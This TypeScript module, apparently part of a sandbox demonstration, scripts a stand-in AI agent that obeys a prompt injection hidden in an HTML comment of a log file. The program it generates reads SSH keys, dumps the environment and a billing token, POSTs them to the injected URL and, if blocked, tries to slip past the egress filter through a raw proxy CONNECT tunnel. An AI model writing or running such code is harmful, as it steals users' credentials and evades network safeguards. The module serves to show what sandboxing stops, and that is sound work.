/**
 * The demo's "agent": no LLM, a script that behaves like an obedient one. It
 * reads the log file it was asked to debug, finds the instructions hidden in
 * an HTML comment, and writes the Deno program those instructions ask for,
 * together with the legitimate billing status check it was working on.
 *
 * The program is the same text with and without a sandbox: it adapts to what
 * it finds at run time (a `HOME`, a `BILLING_TOKEN` variable, readable
 * files), the way generated code does.
 *
 * @module
 */

import { BILLING_HOST, BILLING_STATUS_PATH } from "./billing_api.ts";

/** One command the injection asks for: `curl -d @FILE URL`. */
export interface InjectedUpload {
  /** As written (`$HOME/.ssh/id_rsa`). */
  file: string;
  /** The file relative to the home directory (`.ssh/id_rsa`). */
  homeRelative: string;
  /** Where it should be sent. */
  url: string;
}

/** What the agent found in the log. */
export interface Injection {
  /** The HTML comment, verbatim. */
  comment: string;
  /** Its line numbers in the log (1-based, first and last). */
  lines: [number, number];
  /** The uploads it asks for. */
  uploads: InjectedUpload[];
}

/** What the agent read and what it produced. */
export interface AgentOutput {
  /** Lines of the log. */
  logLines: number;
  /** The injection, or null if the log was clean. */
  injection: Injection | null;
  /** The generated program (JavaScript, runnable by Deno as is). */
  program: string;
}

/**
 * Finds instructions hidden in an HTML comment of a log.
 *
 * @param log The log text.
 * @returns The injection, or null.
 */
export function findInjection(log: string): Injection | null {
  const start = log.indexOf("<!--");
  const end = log.indexOf("-->", start);
  if (start === -1 || end === -1) return null;
  const comment = log.slice(start, end + 3);
  const uploads: InjectedUpload[] = [];
  for (const m of comment.matchAll(/curl\s+-d\s+@(\S+)\s+(https?:\/\/\S+)/g)) {
    const file = m[1]!;
    uploads.push({
      file,
      homeRelative: file.replace(/^(\$HOME|\$\{HOME\}|~)\//, ""),
      url: m[2]!.replace(/-->$/, ""),
    });
  }
  const lineOf = (at: number) => log.slice(0, at).split("\n").length;
  return { comment, lines: [lineOf(start), lineOf(end)], uploads };
}

/**
 * Reads the log and writes the program.
 *
 * @param log The log text.
 * @param options `homes`: home directories the program tries after `$HOME`
 *   (the demo's fake home, `/root`).
 * @returns What the agent found and wrote.
 */
export function runAgent(
  log: string,
  options: { homes: readonly string[] },
): AgentOutput {
  const injection = findInjection(log);
  return {
    logLines: log.trimEnd().split("\n").length,
    injection,
    program: writeProgram(injection?.uploads ?? [], options.homes),
  };
}

/**
 * The program an obedient agent writes: the billing status check it was
 * asked for, then the "connectivity diagnostic" of the injection. It prints
 * what it sees and ends with one JSON line of everything it found, which it
 * also saves as `billing-diagnostic.json` in its working directory.
 */
function writeProgram(
  uploads: readonly InjectedUpload[],
  homes: readonly string[],
): string {
  const files = uploads.map((u) => u.homeRelative);
  const target = uploads[0]?.url ?? "";
  return `// Written by the agent while debugging "upstream billing unreachable"
// (logs/api-error.log). Task: check the billing service. The log also says
// the billing service moved and asks for a connectivity diagnostic.
const BILLING_STATUS = ${
    JSON.stringify(`https://${BILLING_HOST}${BILLING_STATUS_PATH}`)
  };
const DIAGNOSTIC_URL = ${JSON.stringify(target)};
const FILES = ${JSON.stringify(files)};
const HOMES = ${JSON.stringify(homes)};

const seen = { home: null, env: null, files: [], billing: null, diagnostic: [], wrote: null };
const text = (e) => (e instanceof Error ? e.name + ": " + e.message : String(e));
const show = (label, value) => console.log(label.padEnd(22) + " " + value);

// What can this program see?
try {
  seen.home = Deno.env.get("HOME") ?? null;
} catch (e) {
  seen.homeError = text(e);
}
try {
  seen.env = Deno.env.toObject();
} catch (e) {
  seen.env = text(e);
}
show("HOME", seen.home ?? seen.homeError ?? "(not set)");
show("environment", typeof seen.env === "string" ? seen.env : JSON.stringify(seen.env));

// The diagnostic: read each file (\${HOME}-relative, then the usual homes).
const uploads = [];
for (const rel of FILES) {
  const homes = [...new Set([seen.home, ...HOMES].filter(Boolean))];
  let content = null;
  for (const home of homes) {
    const path = home + "/" + rel;
    try {
      const bytes = await Deno.readFile(path);
      content = new TextDecoder().decode(bytes);
      seen.files.push({ file: rel, path, ok: true, bytes: bytes.length, firstLine: content.split("\\n")[0] });
      show("read " + path, bytes.length + " bytes: " + content.split("\\n")[0]);
      break;
    } catch (e) {
      seen.files.push({ file: rel, path, ok: false, error: text(e) });
      show("read " + path, text(e));
    }
  }
  uploads.push({ label: rel, body: content ?? "(could not read ~/" + rel + ")" });
}

// The task: the billing status (with the token, if this process has one).
const headers = { accept: "application/json" };
try {
  const token = Deno.env.get("BILLING_TOKEN");
  if (token) headers.authorization = "Bearer " + token;
} catch {
  // no environment: the request goes without a token
}
try {
  const response = await fetch(BILLING_STATUS, { headers });
  seen.billing = { status: response.status, body: await response.text() };
  show("GET " + BILLING_STATUS, response.status + " " + seen.billing.body);
} catch (e) {
  seen.billing = { error: text(e) };
  show("GET " + BILLING_STATUS, text(e));
}

// "curl -d @FILE URL" for each file, and the environment for good measure.
uploads.push({ label: "environment", body: JSON.stringify(seen.env) });
for (const upload of uploads) {
  try {
    const response = await fetch(DIAGNOSTIC_URL, {
      method: "POST",
      headers: { "content-type": "application/octet-stream", "x-diagnostic": upload.label },
      body: upload.body,
    });
    await response.body?.cancel();
    seen.diagnostic.push({ via: "fetch", label: upload.label, status: response.status });
    show("POST " + upload.label, "-> " + response.status);
  } catch (e) {
    seen.diagnostic.push({ via: "fetch", label: upload.label, error: text(e) });
    show("POST " + upload.label, text(e));
  }
}

// Refused? Try once more, straight to the HTTP proxy (a CONNECT tunnel).
if (!seen.diagnostic.some((d) => d.status !== undefined)) {
  let proxy = "http://127.0.0.1:3128";
  try {
    proxy = Deno.env.get("HTTPS_PROXY") ?? proxy;
  } catch {
    // the usual proxy address
  }
  const attempt = { via: "proxy " + proxy, label: "CONNECT " + new URL(DIAGNOSTIC_URL).host };
  try {
    const { hostname, port } = new URL(proxy);
    const conn = await Deno.connect({ hostname, port: Number(port || 80) });
    const host = new URL(DIAGNOSTIC_URL).hostname;
    await conn.write(new TextEncoder().encode("CONNECT " + host + ":443 HTTP/1.1\\r\\nHost: " + host + ":443\\r\\n\\r\\n"));
    const buf = new Uint8Array(4096);
    const n = await conn.read(buf);
    const head = new TextDecoder().decode(buf.subarray(0, n ?? 0));
    attempt.response = head.split("\\r\\n")[0];
    attempt.airlockError = /x-airlock-error: *([^\\r]*)/i.exec(head)?.[1] ?? null;
    if (/^HTTP\\/1\\.[01] 200/.test(head)) {
      const tls = await Deno.startTls(conn, { hostname: host });
      const body = uploads.map((u) => u.body).join("\\n");
      await tls.write(new TextEncoder().encode("POST /check HTTP/1.1\\r\\nHost: " + host + "\\r\\nContent-Length: " + new TextEncoder().encode(body).length + "\\r\\nConnection: close\\r\\n\\r\\n" + body));
      const m = await tls.read(buf);
      attempt.status = Number(new TextDecoder().decode(buf.subarray(0, m ?? 0)).split(" ")[1]);
      tls.close();
    } else {
      conn.close();
    }
  } catch (e) {
    attempt.error = text(e);
  }
  seen.diagnostic.push(attempt);
  show("proxy CONNECT", attempt.response ?? attempt.error);
}

try {
  await Deno.writeTextFile("billing-diagnostic.json", JSON.stringify(seen, null, 2));
  seen.wrote = "billing-diagnostic.json";
} catch (e) {
  seen.wroteError = text(e);
}
console.log(JSON.stringify(seen));
`;
}
